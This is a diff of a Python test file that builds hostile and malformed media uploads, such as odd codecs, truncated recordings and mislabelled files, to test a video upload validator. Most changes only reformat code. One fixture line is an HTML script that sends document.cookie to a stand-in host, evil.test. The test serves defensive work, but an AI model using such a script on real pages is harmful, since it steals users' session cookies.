@@ -1,6 +1,17 @@
 import struct
 
-from tests.media.hostile import BROKEN, EMPTY, FILM_TOO_LARGE, ODDLY_TURNED, TOO_MUCH, UNKNOWN_CODEC, case, encoded, film, song
+from tests.media.hostile import (
+    BROKEN,
+    EMPTY,
+    FILM_TOO_LARGE,
+    ODDLY_TURNED,
+    TOO_MUCH,
+    UNKNOWN_CODEC,
+    case,
+    encoded,
+    film,
+    song,
+)
 
 FEW_FRAMES = "Your performance has under 10 frames a second. Film it again."
 SCRIPT = b"<html><script>fetch('//evil.test/' + document.cookie)</script></html>\n"
@@ -98,7 +109,9 @@ def a_kind_that_is_not_taken() -> bytes:
 
 @case("driver_video")
 def a_broadcast() -> bytes:
-    return encoded(".ts", "-f", "lavfi", "-i", "testsrc=s=360x480:d=1", "-c:v", "libx264", "-preset", "ultrafast")
+    return encoded(
+        ".ts", "-f", "lavfi", "-i", "testsrc=s=360x480:d=1", "-c:v", "libx264", "-preset", "ultrafast"
+    )
 
 
 @case("driver_video")
@@ -106,7 +119,9 @@ def a_moving_gif() -> bytes:
     return encoded(".gif", "-f", "lavfi", "-i", "testsrc=s=360x480:d=1:r=5")
 
 
-@case("driver_video", "Your performance has no moving picture. Choose an MP4, MOV or WebM video.", "wrong_kind")
+@case(
+    "driver_video", "Your performance has no moving picture. Choose an MP4, MOV or WebM video.", "wrong_kind"
+)
 def a_song_by_the_name_of_a_film() -> bytes:
     return song()
 
@@ -296,5 +311,3 @@ def a_recording_cut_in_its_first_block() -> bytes:
 @case("driver_video")
 def a_recording_of_unknown_sizes() -> bytes:
     return b"\x1a\x45\xdf\xa3" + b"\x01" + b"\xff" * 7 + b"\x18\x53\x80\x67" * 4000
-
-
